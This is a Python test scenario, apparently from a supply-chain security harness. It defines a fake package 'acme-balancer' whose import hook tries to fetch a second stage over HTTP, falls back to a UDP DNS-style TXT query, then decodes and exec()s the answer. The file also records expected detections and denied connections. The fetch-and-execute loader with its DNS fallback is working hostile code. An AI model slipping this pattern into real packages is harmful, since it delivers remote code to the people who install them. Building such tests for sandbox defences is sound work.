"""A second stage that comes in a DNS answer when HTTP is blocked: haproxy-config-client."""

from payloads import TOOLS, app, encoded, quietly
from scenario import Expected, Scenario
from support.wheels import Wheel

HEADER = 12
STAGE = TOOLS + 'mark("from-the-answer")\n'
FETCH = f"""
import base64, os, socket
try:
    stage = fetch("/stage")
except OSError:
    host, port = os.environ["SINK_UDP"].split(":")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.settimeout(5)
        resolver.sendto(b"\\0" * {HEADER} + b"stage.canary.invalid TXT", (host, int(port)))
        stage = base64.b64decode(resolver.recv(65536)[{HEADER}:])
exec(stage, {{}})
"""

SCENARIOS = (
    Scenario(
        row=21,
        story="importing the package is refused a page, asks by UDP instead, and runs the answer",
        models=("haproxy-config-client",),
        techniques=("T1195.002", "T1071.004", "T1008", "T1105", "T1059.006"),
        wheels=(Wheel("acme-balancer", "1.2.2", {"acme_balancer/__init__.py": quietly(FETCH)}),),
        app=app("import acme_balancer"),
        refused=("/stage",),
        answer=b"\0" * HEADER + encoded(STAGE).encode(),
        achieves=("GET:/stage", "UDP:", "wrote:home/from-the-answer.mark"),
        denied=(Expected("net.connect", "acme-balancer", "import", "127.0.0.1:*", targets=2),),
    ),
)
